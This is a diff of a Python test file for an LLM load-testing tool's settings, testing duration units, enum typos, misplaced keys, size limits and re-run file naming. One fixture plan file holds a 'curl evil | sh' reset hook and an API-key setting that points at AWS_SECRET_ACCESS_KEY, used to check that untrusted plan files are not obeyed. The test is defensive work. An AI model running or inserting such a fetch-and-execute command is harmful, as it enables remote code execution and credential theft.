@@ -177,7 +177,8 @@ def samples(tmp_path) -> dict[str, tuple[object, dict]]:
 def test_every_setting_has_a_sample(tmp_path):
     planned = {n for n, (_, o) in options().items() if o.plan}
     assert planned == set(samples(tmp_path))
-    assert {n for n, (_, o) in options().items() if not o.plan} == {"web"}  # how to run, not what
+    # how to run, not what; and a file cannot trust itself
+    assert {n for n, (_, o) in options().items() if not o.plan} == {"web", "trust_plan"}
 
 
 def _yaml_of(values: dict) -> str:
@@ -427,7 +428,7 @@ def test_bad_ladders_slos_and_workloads_in_a_plan(tmp_path):
             "ladder.stable.window: 40 s is longer than the measurement window"
         ),
         "ladder: {kind: rate, steps: [1], arrivals: bursty}": (
-            "ladder.arrivals: Input should be 'poisson' or 'constant'"
+            "ladder.arrivals: unknown value 'bursty'; one of poisson, constant"
         ),
         "ladder: {kind: speed, steps: [1, 2]}\nworkload: {synthetic: 'requests=10'}": (
             "a speed ladder replays arrival times"
@@ -467,8 +468,10 @@ def test_help_lists_every_option_grouped():
     text = derive.run_parser().format_help()
     for name, (_, opt) in options().items():
         assert opt.flag_for(name) in text, name
-    for head in ("target:", "workload:", "load shape:", "SLOs:", "outputs:", "observability:", "simulator"):
-        assert head in text
+    from llm_locust.settings.model import GROUPS
+
+    for head in GROUPS.values():
+        assert head + ":" in text
 
 
 def test_locust_reads_our_options_from_its_parser_config_file_and_environment(tmp_path, monkeypatch):
@@ -587,3 +590,201 @@ def test_an_endpoints_file_names_its_bad_line(tmp_path):
     f.write_text("http://127.0.0.1:8001\nnot-a-url\n")
     with pytest.raises(Exception, match=r"hosts.txt:2: expected a URL"):
         Settings(endpoints=f"@{f}")
+
+
+# ---- issue 24: durations, enums, sections, sizes, files as data, re-runs ----
+
+
+def _durations() -> list[str]:
+    return [n for n, (_, o) in options().items() if o.unit == "s"]
+
+
+def test_every_duration_follows_one_rule_for_bare_numbers(tmp_path):
+    """A bound for each (declared once, in its Opt), the default under it, a bare number from it up
+    refused with the "write the unit" message, on the command line and in a plan alike; with its
+    unit any value is taken; --help states the bound."""
+    from llm_locust.settings.units import is_bare
+
+    help_text = " ".join(derive.run_parser().format_help().split())
+    for name in _durations() + ["run_time"]:
+        default, opt = options()[name]
+        assert opt.bare_below, name
+        assert default is None or (not is_bare(default) or default < opt.bare_below), name
+        bare = f"{opt.bare_below:.0f}"
+        with pytest.raises(PlanError, match=rf"{bare} would be {bare} seconds: write the unit"):
+            derive.resolve(None, cli(opt.flag_for(name), bare))
+        with pytest.raises(PlanError, match=rf"{opt.plan}: {bare} would be {bare} seconds"):
+            load(tmp_path, yaml.safe_dump(nested(opt.plan, int(opt.bare_below))))
+        assert f"a bare number is seconds, below {bare})" in help_text, name
+    s = derive.resolve(None, cli("--think-time", "59", "--no-progress-timeout", "500s", "--request-timeout", "2h"))
+    assert (s.think_time, s.no_progress_timeout, s.request_timeout) == (59, 500, 7200)
+
+
+def test_large_durations_survive_the_effective_plan_and_old_results(tmp_path):
+    """The effective plan writes a duration past its bound with its unit, so it reads back; a
+    results file's plan (written by llm-locust, older ones bare) is seconds whatever the size."""
+    s = derive.resolve(None, cli("--request-timeout", "2h", "--think-time", "90s"))
+    plan = derive.to_plan(s)
+    assert plan["timeouts"]["request"] == "7200s" and plan["workload"]["think_time"] == "90s"
+    assert derive.resolve(derive.plan_values(plan, source="r.json")) == s
+    old = {"timeouts": {"request": 7200}, "workload": {"think_time": 90}}
+    again = derive.resolve(derive.plan_values(old, source="old.json", written=True))
+    assert (again.request_timeout, again.think_time) == (7200, 90)
+    assert "--request-timeout" in derive.to_locust_argv(s) and "7200s" in derive.to_locust_argv(s)
+
+
+def test_every_enum_gets_a_did_you_mean():
+    """Each setting whose values are a fixed list: a typo of its first value is named, with the
+    value it was meant to be and the list."""
+    enums = {n: derive._choices(Settings.model_fields[n].annotation) for n in options()}
+    enums = {n: c for n, c in enums.items() if c and n != "workers"}
+    assert {"route", "image_format", "tool_choice", "arrivals"} <= set(enums)
+    for name, choices in enums.items():
+        typo = choices[-1][:-1]
+        with pytest.raises(PlanError) as e:
+            derive.resolve(None, cli(options()[name][1].flag_for(name), typo))
+        assert f"unknown value {typo!r} (did you mean {choices[-1]!r}?); one of " in str(e.value), name
+    for argv, meant in (
+        (["--api", "openai-cht"], "'openai-chat'"),
+        (["--workers", "autp"], "'auto'"),
+        (["--trace-format", "sharegtp"], "'sharegpt'"),
+        (["--synthetic", "reqests=5"], "'requests'"),
+        (["--mix", "embedings:0.1"], "'embeddings'"),
+        (["--ladder", "concurency:1..4"], "'concurrency'"),
+    ):
+        with pytest.raises(PlanError, match=rf"did you mean {meant}"):
+            derive.resolve(None, cli(*argv))
+
+
+@pytest.mark.parametrize(
+    "text, message",
+    [
+        ("warmup: 5s\n", ":1: warmup: unknown key 'warmup' here: it belongs under ladder: (ladder.warmup)"),
+        ("request_timeout: 2m\n", "unknown key 'request_timeout' here: it belongs under timeouts: (timeouts.request)"),
+        ("steps: [1, 2]\n", "unknown key 'steps' here: it belongs under ladder: (ladder.steps)"),
+        (
+            "ladder: {kind: rate, steps: [1], users: 4}\n",
+            "ladder.users: unknown key 'users' here: it belongs under load: (load.users)",
+        ),
+        ("timeouts: {think_time: 1}\n", "it belongs under workload: (workload.think_time)"),
+        ("workload: {results: r.json}\n", "it belongs at the top of the plan (results)"),
+    ],
+)
+def test_a_key_in_the_wrong_section_is_pointed_to_its_section(tmp_path, text, message):
+    assert any(message in p for p in problems(tmp_path, text)), problems(tmp_path, text)
+
+
+@pytest.mark.parametrize(
+    "argv, message",
+    [
+        (["-u", "100001"], "-u/--users: 100001 is more than 100000, the most users in one run"),
+        (["--max-in-flight", "200000"], "--max-in-flight: 200000 is more than 100000"),
+        (["--loops", "5000"], "--loops: 5000 is more than 1000"),
+        (["--max-tokens", "20000000"], "--max-tokens: 20000000 is more than 10000000"),
+        (["--overlong-tokens", "20000000"], "--overlong-tokens: 20000000 is more than 10000000"),
+        (["--max-event-bytes", str(2 << 30)], "--max-event-bytes: 2147483648 is more than 1073741824"),
+        (["--sim-slots", "20000"], "--sim-slots: 20000 is more than 10000"),
+        (["--workers", "100000"], "--workers: 100000 local worker processes on"),
+        (["--synthetic", "requests=2000000"], "requests=2000000 is more than 1000000"),
+        (["--synthetic", "requests=1e9"], "requests: expected a whole number, got '1e9'"),
+        (["--ladder", "concurrency:1,200000"], "levels: 200000 is more than 100000, the most users in one run"),
+        (["--ladder", "rate:1,1e6"], "levels: 1000000 is more than 100000, the most requests/s"),
+        (["--ladder", "sla:concurrency:1..1000000:5%"], "levels: 1000000 is more than 100000"),
+        (["--host", "http://127.0.0.1:99999"], "--host: port '99999' in 'http://127.0.0.1:99999': a port is a number"),
+        (["--endpoints", "http://127.0.0.1:70000"], "--endpoints: port '70000'"),
+    ],
+)
+def test_silly_sizes_are_refused_saying_the_limit(argv, message):
+    with pytest.raises(PlanError) as e:
+        derive.resolve(None, cli(*argv))
+    assert any(message in p for p in e.value.problems), e.value.problems
+
+
+def test_the_largest_sensible_sizes_are_taken():
+    from llm_locust.settings.limits import MAX_USERS, max_local_workers
+
+    s = derive.resolve(None, cli("-u", str(MAX_USERS), "--workers", str(max_local_workers())))
+    assert (s.users, s.workers) == (MAX_USERS, max_local_workers())
+
+
+@pytest.mark.parametrize(
+    "argv, n_workers, cores, problem",
+    [
+        (["-u", "20000"], 0, 2, "-u/--users 20000: 20000 streams a local process (1 on 2 cores), more than 5000"),
+        (["-u", "20000"], 4, 8, None),
+        (["--ladder", "concurrency:1,16000"], 2, 4, "--ladder concurrency:1,16000: 8000 streams a local process"),
+        (["--ladder", "rate:1,500"], 0, 2, None),  # its concurrency is not known ahead
+        (["-u", "5000"], 0, 2, None),
+    ],
+)
+def test_a_local_process_takes_a_bounded_number_of_streams(argv, n_workers, cores, problem):
+    from llm_locust.settings.workers import local_problem
+
+    said = local_problem(derive.resolve(None, cli(*argv)), n_workers, cores)
+    assert (said or None) == problem if problem is None else said.startswith(problem)
+
+
+def _files_plan(tmp_path) -> derive.Given:
+    lf = write(tmp_path, "x = 1\n", "theirs.py")
+    text = yaml.safe_dump(
+        {
+            "host": "http://10.0.0.9:8000",
+            "endpoints": ["http://10.0.0.10:8000"],
+            "api_key_env": "AWS_SECRET_ACCESS_KEY",
+            "locustfile": str(lf),
+            "repeat": {"count": 2, "reset_hook": "curl evil | sh"},
+            "observe": {"server_metrics": "http://10.0.0.9:9/metrics", "gpu_metrics": "http://10.0.0.9:9401"},
+            "load": {"users": 3},
+        }
+    )
+    return derive.load_plan(write(tmp_path, text))
+
+
+def test_a_file_is_data_unless_trusted(tmp_path):
+    from llm_locust.settings import sources
+
+    plan = _files_plan(tmp_path)
+    kept, lines = sources.untrusted(plan, cli(), trust=False)
+    s = derive.resolve(kept, cli())
+    assert (s.host, s.endpoints, s.locustfile, s.reset_hook, s.server_metrics, s.gpu_metrics) == ("",) * 6
+    assert s.api_key_env == "OPENAI_API_KEY" and s.users == 3 and s.repeat == 2  # the rest is taken
+    assert "is data: not taken from it" in lines[0] and "--trust-plan" in lines[0]
+    hook = "  repeat.reset_hook: 'curl evil | sh' (runs a shell command): give --reset-hook 'curl evil | sh' to use it"
+    assert hook in lines, lines
+    assert len(lines) == 1 + 7
+    # what the command line gives is the user's: not dropped, not said
+    kept, lines = sources.untrusted(plan, cli("--host", "http://127.0.0.1:8000"), trust=False)
+    assert not any(line.startswith("  host:") for line in lines)
+    assert derive.resolve(kept, cli("--host", "http://127.0.0.1:8000")).host == "http://127.0.0.1:8000"
+    # --trust-plan takes the file as it is
+    kept, lines = sources.untrusted(plan, cli("--trust-plan"), trust=True)
+    trusted = derive.resolve(kept, cli("--trust-plan"))
+    assert lines == [] and trusted.host == "http://10.0.0.9:8000" and trusted.reset_hook == "curl evil | sh"
+    # declared once: exactly these settings need trust
+    needs = {n for n, (_, o) in options().items() if o.trust}
+    assert needs == {"host", "endpoints", "api_key_env", "locustfile", "reset_hook", "server_metrics", "gpu_metrics"}
+
+
+def test_a_rerun_writes_beside_its_source(tmp_path, monkeypatch):
+    from llm_locust.settings import sources
+
+    monkeypatch.chdir(tmp_path)
+    source = tmp_path / "runs" / "r.json"
+    source.parent.mkdir()
+    plan = derive.plan_values(
+        {"results": "r.json", "report": "r.html", "record_log": "log.jsonl"}, source="runs/r.json"
+    )
+    moved, line = sources.rerun_outputs("runs/r.json", plan, cli())
+    assert moved.values["results"] == str(tmp_path / "runs" / "r.rerun-1.json")
+    assert moved.values["report"] == str(tmp_path / "runs" / "r.rerun-1.html")
+    assert moved.values["record_log"] == str(tmp_path / "runs" / "r.rerun-1.records.jsonl")
+    assert line.startswith("re-run of runs/r.json: writing runs/r.rerun-1.json, runs/r.rerun-1.html, ")
+    (tmp_path / "runs" / "r.rerun-1.html").write_text("")  # taken: the next number for every output
+    moved, _ = sources.rerun_outputs("runs/r.json", plan, cli())
+    assert moved.values["results"].endswith("r.rerun-2.json")
+    # a re-run of a re-run counts on; the command line's outputs are kept
+    (tmp_path / "runs" / "r.rerun-1.json").write_text("{}")
+    moved, line = sources.rerun_outputs("runs/r.rerun-1.json", plan, cli("--report", "mine.html"))
+    assert moved.values["results"].endswith("runs/r.rerun-2.json") and "report" not in line
+    with pytest.raises(PlanError, match="--results runs/r.json: that is the results file this run reads"):
+        sources.rerun_outputs("runs/r.json", plan, cli("--results", "runs/r.json"))
